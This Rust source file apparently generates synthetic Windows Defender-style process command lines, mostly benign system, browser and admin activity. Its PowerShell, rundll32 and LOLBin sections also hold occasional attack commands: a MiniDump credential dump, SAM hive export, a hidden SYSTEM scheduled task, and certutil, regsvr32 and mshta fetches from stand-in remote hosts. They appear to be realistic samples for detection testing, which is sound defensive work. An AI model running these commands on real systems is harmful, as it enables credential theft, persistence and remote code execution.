//! Windows command lines in the shapes Defender records: service hosts, encoded PowerShell,
//! `cmd /c` one-liners, rundll32 entry points, Chromium renderers with their long flag lists,
//! installers and living-off-the-land tools. Lengths range from a few dozen characters to
//! about 1,500.

use rand::{Rng, rngs::SmallRng};

use crate::{
    images::{Cmd, Image},
    json::{push_base64, push_guid, push_hex},
    pools::{CHROMIUM_FEATURES, FILE_STEMS, POWERSHELL_SNIPPETS, SERVICES},
    world::pick,
};

/// Appends the command line of a process of `img` started from `path` by `user`.
pub(crate) fn write(out: &mut String, img: &Image, path: &str, user: &str, rng: &mut SmallRng) {
    match img.cmd {
        Cmd::None => {}
        Cmd::Service => {
            let group = pick(
                rng,
                &[
                    "netsvcs",
                    "LocalServiceNetworkRestricted",
                    "NetworkService",
                    "LocalSystemNetworkRestricted",
                    "DcomLaunch",
                    "RPCSS",
                    "UnistackSvcGroup",
                    "wusvcs",
                ],
            );
            out.push_str("C:\\Windows\\system32\\svchost.exe -k ");
            out.push_str(group);
            out.push_str(" -p");
            if rng.random_bool(0.7) {
                out.push_str(" -s ");
                out.push_str(pick(rng, SERVICES));
            }
        }
        Cmd::PowerShell => powershell(out, path, user, rng),
        Cmd::Shell => shell(out, user, rng),
        Cmd::Rundll32 => {
            let v = pick(
                rng,
                &[
                    "rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding",
                    "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask",
                    "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 WinX:0 WinY:0 IEFrame:0000000000000000",
                    "rundll32.exe Startupscan.dll,SusRunTask",
                    "rundll32.exe C:\\Windows\\System32\\LogiLDA.dll,LogiFetch",
                    "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll MiniDump 724 C:\\Windows\\Temp\\debug.bin full",
                ],
            );
            if v.contains("MiniDump") && rng.random_bool(0.8) {
                out.push_str("rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie fs01.corp.contoso.com https://fs01.corp.contoso.com/finance/Shared");
            } else {
                out.push_str(v);
            }
        }
        Cmd::Chromium | Cmd::Electron => chromium(out, img, path, user, rng),
        Cmd::Office => {
            quoted(out, path);
            if img.file != "OUTLOOK.EXE" && rng.random_bool(0.7) {
                out.push_str(" /n \"C:\\Users\\");
                out.push_str(user);
                out.push_str(pick(rng, &["\\Downloads\\", "\\Documents\\", "\\OneDrive - Contoso\\Shared\\"]));
                out.push_str(pick(rng, FILE_STEMS));
                out.push_str(if img.file == "EXCEL.EXE" { ".xlsx\"" } else { ".docx\"" });
                out.push_str(" /o \"\"");
            } else if rng.random_bool(0.3) {
                out.push_str(" /recycle");
            }
        }
        Cmd::Msiexec => {
            if rng.random_bool(0.5) {
                out.push_str("C:\\Windows\\system32\\msiexec.exe /V");
            } else {
                out.push_str("\"C:\\Windows\\system32\\msiexec.exe\" /i \"C:\\Windows\\ccmcache\\");
                push_hex(out, rng.random(), 2);
                out.push('\\');
                out.push_str(pick(
                    rng,
                    &[
                        "Setup.msi",
                        "Teams_windows_x64.msi",
                        "GoogleChromeStandaloneEnterprise64.msi",
                        "AcroRdrDCx64.msi",
                        "ContosoAgent-4.2.1.msi",
                    ],
                ));
                out.push_str("\" /qn REBOOT=ReallySuppress ALLUSERS=1 /l*v \"C:\\Windows\\Temp\\install_");
                push_hex(out, rng.random(), 8);
                out.push_str(".log\"");
            }
        }
        Cmd::Conhost => out.push_str("\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
        Cmd::Plain | Cmd::Explorer => {
            if img.cmd == Cmd::Explorer && rng.random_bool(0.6) {
                out.push_str("C:\\WINDOWS\\Explorer.EXE");
            } else if rng.random_bool(0.5) {
                quoted(out, img.file);
            } else {
                out.push_str(path);
            }
            if !img.system && rng.random_bool(0.3) {
                out.push_str(pick(
                    rng,
                    &[
                        " -Embedding",
                        " /background",
                        " /updateInstalled /silent",
                        " --autostart",
                        " -ServerName:App.AppXq0fevzme2pys62n3e0fbqa7peapykr8v.mca",
                    ],
                ));
            }
        }
        Cmd::Java => {
            quoted(out, path);
            out.push_str(" -Xms512m -Xmx4g -XX:+UseG1GC -Djava.awt.headless=true -Dfile.encoding=UTF-8 -Dlog4j2.formatMsgNoLookups=true -cp \"C:\\Program Files\\Contoso\\ReportServer\\lib\\*;C:\\Program Files\\Contoso\\ReportServer\\conf\" com.contoso.reports.Server --config C:\\ProgramData\\Contoso\\ReportServer\\server.yml --port ");
            out.push_str(pick(rng, &["8443", "9090", "8080"]));
        }
        Cmd::Python => {
            quoted(out, path);
            out.push_str(" C:\\Users\\");
            out.push_str(user);
            out.push_str(pick(rng, &["\\source\\repos\\tools\\sync_reports.py --since 2026-11-19 --out reports\\daily", "\\.vscode\\extensions\\ms-python.python-2024.20.0-win32-x64\\python_files\\run-jedi-language-server.py", "\\AppData\\Local\\Temp\\pip-install-", "\\projects\\etl\\main.py -c config\\prod.toml --dry-run"]));
        }
        Cmd::Git => {
            quoted(out, path);
            out.push_str(pick(rng, &[" fetch --prune --no-recurse-submodules origin", " status -z -uall", " -c core.quotepath=false -c color.ui=false rev-parse --show-toplevel", " pull --tags origin main", " for-each-ref --sort -committerdate --format %(refname)%00%(objectname)%00%(*objectname) refs/heads"]));
        }
        Cmd::Defender => defender(out, img, rng),
        Cmd::Lolbin => lolbin(out, img, user, rng),
    }
}

fn quoted(out: &mut String, s: &str) {
    out.push('"');
    out.push_str(s);
    out.push('"');
}

fn powershell(out: &mut String, path: &str, user: &str, rng: &mut SmallRng) {
    match rng.random_range(0..10) {
        0..=3 => {
            out.push_str(pick(
                rng,
                &[
                    "\"powershell.exe\"",
                    "powershell.exe",
                    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"",
                ],
            ));
            out.push_str(pick(
                rng,
                &[
                    " -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand ",
                    " -nop -w hidden -enc ",
                    " -NoLogo -NoProfile -EncodedCommand ",
                ],
            ));
            let mut script = String::new();
            let budget = rng.random_range(30..420);
            while script.len() < budget {
                script.push_str(pick(rng, POWERSHELL_SNIPPETS));
            }
            let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
            push_base64(out, &utf16);
        }
        4..=6 => {
            out.push_str(path);
            out.push_str(" -ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden -File \"");
            out.push_str(pick(
                rng,
                &[
                    "C:\\ProgramData\\Contoso\\Scripts\\Collect-Inventory.ps1\" -Mode Full -Upload",
                    "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\",
                    "C:\\Windows\\CCM\\SystemTemp\\",
                ],
            ));
            if !out.ends_with("Upload") {
                push_guid(out, rng.random());
                out.push_str("_detect.ps1\"");
            }
        }
        7 | 8 => {
            out.push_str("\"powershell.exe\" -NoProfile -Command \"");
            for _ in 0..rng.random_range(1..4) {
                out.push_str(&pick(rng, POWERSHELL_SNIPPETS).replace('"', "\\\""));
            }
            out.push('"');
        }
        _ => {
            out.push_str("\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ");
            out.push_str(pick(rng, &["", "-NoExit -Command \"Set-Location -LiteralPath 'C:\\Users\\"]));
            if out.ends_with("'C:\\Users\\") {
                out.push_str(user);
                out.push_str("\\Documents'\"");
            }
        }
    }
}

fn shell(out: &mut String, user: &str, rng: &mut SmallRng) {
    out.push_str(pick(
        rng,
        &["\"C:\\Windows\\system32\\cmd.exe\" /c ", "C:\\WINDOWS\\system32\\cmd.exe /d /s /c ", "cmd.exe /C "],
    ));
    match rng.random_range(0..8) {
        0 => out.push_str("\"ipconfig /all > %TEMP%\\netinfo.txt 2>&1\""),
        1 => {
            out.push_str("\"dir /s /b C:\\Users\\");
            out.push_str(user);
            out.push_str("\\Documents\\*.docx C:\\Users\\");
            out.push_str(user);
            out.push_str("\\Documents\\*.xlsx\"");
        }
        2 => out.push_str("\"npm run build --prefix C:\\src\\contoso-portal && npm test -- --ci --reporters=default --reporters=jest-junit\""),
        3 => out.push_str("net use Z: \\\\fs01.corp.contoso.com\\finance /persistent:yes"),
        4 => out.push_str("\"C:\\Program Files\\Git\\cmd\\git.exe\" -C C:\\src\\contoso-portal pull --ff-only"),
        5 => out.push_str("ping -n 1 -w 500 dc01.corp.contoso.com | find \"TTL=\""),
        6 => {
            out.push_str("echo ");
            push_hex(out, rng.random(), 32);
            out.push_str(" > C:\\ProgramData\\Contoso\\Agent\\heartbeat.tmp");
        }
        _ => out.push_str("\"C:\\Program Files\\Contoso\\Agent\\collect.cmd\" /quiet /log C:\\ProgramData\\Contoso\\Agent\\collect.log"),
    }
}

fn chromium(out: &mut String, img: &Image, path: &str, user: &str, rng: &mut SmallRng) {
    quoted(out, path);
    if rng.random_bool(0.15) {
        out.push_str(pick(
            rng,
            &[
                " --profile-directory=Default",
                " --single-argument https://contoso.sharepoint.com/sites/Finance",
                " --no-startup-window --win-session-start",
            ],
        ));
        return;
    }
    let kind = pick(rng, &["renderer", "renderer", "renderer", "gpu-process", "utility", "crashpad-handler"]);
    out.push_str(" --type=");
    out.push_str(kind);
    if kind == "utility" {
        out.push_str(pick(
            rng,
            &[
                " --utility-sub-type=network.mojom.NetworkService",
                " --utility-sub-type=storage.mojom.StorageService",
                " --utility-sub-type=audio.mojom.AudioService",
            ],
        ));
        out.push_str(" --service-sandbox-type=none");
    }
    if img.cmd == Cmd::Electron {
        out.push_str(" --user-data-dir=\"C:\\Users\\");
        out.push_str(user);
        out.push_str("\\AppData\\Roaming\\");
        out.push_str(if img.file == "Code.exe" { "Code\"" } else { "Microsoft\\Teams\"" });
        out.push_str(" --standard-schemes=vscode-webview,vscode-file --enable-sandbox --secure-schemes=vscode-webview,vscode-file --cors-schemes=vscode-webview,vscode-file");
    }
    out.push_str(" --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1.25 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=");
    out.push_str(&rng.random_range(5..400).to_string());
    out.push_str(" --time-ticks-at-unix-epoch=-");
    out.push_str(&rng.random_range(1_700_000_000_000_000u64..1_799_999_999_999_999).to_string());
    out.push_str(" --launch-time-ticks=");
    out.push_str(&rng.random_range(1_000_000_000u64..99_999_999_999).to_string());
    out.push_str(" --field-trial-handle=");
    out.push_str(&rng.random_range(1000..9999).to_string());
    out.push_str(",i,");
    push_hex(out, rng.random(), 16);
    out.push(',');
    push_hex(out, rng.random(), 16);
    out.push_str(",262144");
    if rng.random_bool(0.7) {
        out.push_str(" --enable-features=");
        for i in 0..rng.random_range(2..8) {
            if i > 0 {
                out.push(',');
            }
            out.push_str(pick(rng, CHROMIUM_FEATURES));
        }
        out.push_str(" --disable-features=msSmartScreenProtection,SpareRendererForSitePerProcess,WinRetrieveSuggestionsOnlyOnDemand");
    }
    out.push_str(" --variations-seed-version --mojo-platform-channel-handle=");
    out.push_str(&rng.random_range(1000..20000).to_string());
    out.push_str(" /prefetch:");
    out.push_str(&rng.random_range(1..13).to_string());
}

fn defender(out: &mut String, img: &Image, rng: &mut SmallRng) {
    match img.file {
        "MpCmdRun.exe" => out.push_str(pick(rng, &[
            "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9008-0\\MpCmdRun.exe\" SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke",
            "\"MpCmdRun.exe\" -wdenable",
            "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25100.9008-0\\MpCmdRun.exe\" -IdleTask -TaskName WdCacheMaintenance",
            "\"MpCmdRun.exe\" GetDeviceTicket -AccessKey 4C0A8A21-75A7-E1B5-9F2B-7A51C4A0E1D2",
        ])),
        "SenseIR.exe" => {
            out.push_str("\"SenseIR.exe\" \"OfflineSenseIR\" \"");
            let blob: Vec<u8> = (0..rng.random_range(60..200)).map(|_| rng.random()).collect();
            push_base64(out, &blob);
            out.push('"');
        }
        _ => {
            out.push_str("\"SenseCncProxy.exe\" \"Global\\SenseCncProxy_");
            push_guid(out, rng.random());
            out.push_str("\" 2048 4096 1");
        }
    }
}

fn lolbin(out: &mut String, img: &Image, user: &str, rng: &mut SmallRng) {
    let rare = rng.random_bool(0.08);
    match img.file {
        "reg.exe" if rare => out.push_str("reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save /y"),
        "reg.exe" => out.push_str(pick(rng, &[
            "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\" /s",
            "reg.exe add \"HKCU\\Software\\Microsoft\\Office\\16.0\\Common\\General\" /v ShownFirstRunOptin /t REG_DWORD /d 1 /f",
            "reg query HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate /v WUServer",
        ])),
        "schtasks.exe" if rare => out.push_str("schtasks /create /tn \"\\Microsoft\\Windows\\Maintenance\\WinSvcUpd\" /tr \"powershell.exe -w hidden -nop -f C:\\ProgramData\\upd.ps1\" /sc minute /mo 30 /ru SYSTEM /f"),
        "schtasks.exe" => out.push_str(pick(rng, &[
            "schtasks.exe /query /fo CSV /v",
            "\"schtasks.exe\" /Change /TN \"\\Microsoft\\Office\\Office Automatic Updates 2.0\" /Enable",
            "schtasks /run /tn \"\\Contoso\\Inventory Collection\"",
        ])),
        "net.exe" if rare => out.push_str("net group \"Domain Admins\" /domain"),
        "net.exe" => out.push_str(pick(rng, &["net use", "net localgroup administrators", "net time \\\\dc01.corp.contoso.com", "net user "])),
        "whoami.exe" => out.push_str(pick(rng, &["whoami", "whoami /all", "whoami /groups /fo csv"])),
        "certutil.exe" if rare => {
            out.push_str("certutil.exe -urlcache -split -f http://cdn-update-check.xyz/dl/");
            push_hex(out, rng.random(), 12);
            out.push_str(".bin C:\\Users\\Public\\Libraries\\svc.exe");
        }
        "certutil.exe" => out.push_str("certutil.exe -verifyctl -f -split AuthRoot"),
        "sc.exe" => out.push_str(pick(rng, &["sc query WinDefend", "sc.exe config wuauserv start= demand", "sc qc Sense"])),
        "gpupdate.exe" => out.push_str(pick(rng, &["gpupdate /force", "gpupdate.exe /target:computer /wait:0"])),
        "wscript.exe" => {
            out.push_str("\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\");
            out.push_str(user);
            out.push_str("\\Downloads\\");
            out.push_str(pick(rng, FILE_STEMS));
            out.push_str(".js\"");
        }
        "mshta.exe" => out.push_str("\"C:\\Windows\\SysWOW64\\mshta.exe\" \"https://invoice-portal.info/view/index.hta\" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}"),
        "regsvr32.exe" if rare => out.push_str("regsvr32 /s /n /u /i:http://cdn-update-check.xyz/a.sct scrobj.dll"),
        _ => {
            out.push_str(img.file);
            out.push_str(" /s \"C:\\Program Files\\Common Files\\microsoft shared\\ink\\tipband.dll\"");
        }
    }
}
